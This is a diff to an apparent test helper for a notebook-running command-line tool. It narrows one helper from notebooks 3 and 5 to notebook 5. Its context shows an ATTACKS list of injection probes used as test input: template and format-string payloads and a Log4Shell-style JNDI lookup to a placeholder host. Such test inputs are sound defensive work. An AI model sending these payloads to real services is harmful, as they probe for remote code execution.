@@ -38,8 +38,8 @@ ATTACKS = [
     "{{7*7}} {0.__class__} %s ${jndi:ldap://attack.invalid}",
 ]
 SHORT = {"epochs": "2", "seeds": "[0, 1]", "sample": "150", "growth": "0.3", "batch_size": "64"}
-# what notebooks 3 and 5 declare of these
-OF_SOME = ("epochs", "seeds", "growth", "batch_size")
+# what notebook 5 declares of these
+OF_ONE = ("epochs", "seeds", "growth", "batch_size")
 
 
 def write_part(place: Path) -> None:
@@ -55,9 +55,9 @@ def all_notebooks(results: Path) -> list[str]:
     return ["run", "--pairs", "part.csv", *_options(*SHORT), "-p", "results", str(results)]
 
 
-def some_notebooks() -> list[str]:
-    """The command's words for notebooks 3 and 5 with the same settings."""
-    return ["run", "3", "5", "--pairs", "part.csv", *_options(*OF_SOME)]
+def one_notebook() -> list[str]:
+    """The command's words for notebook 5 with the same settings."""
+    return ["run", "5", "--pairs", "part.csv", *_options(*OF_ONE)]
 
 
 def _options(*names: str) -> list[str]:
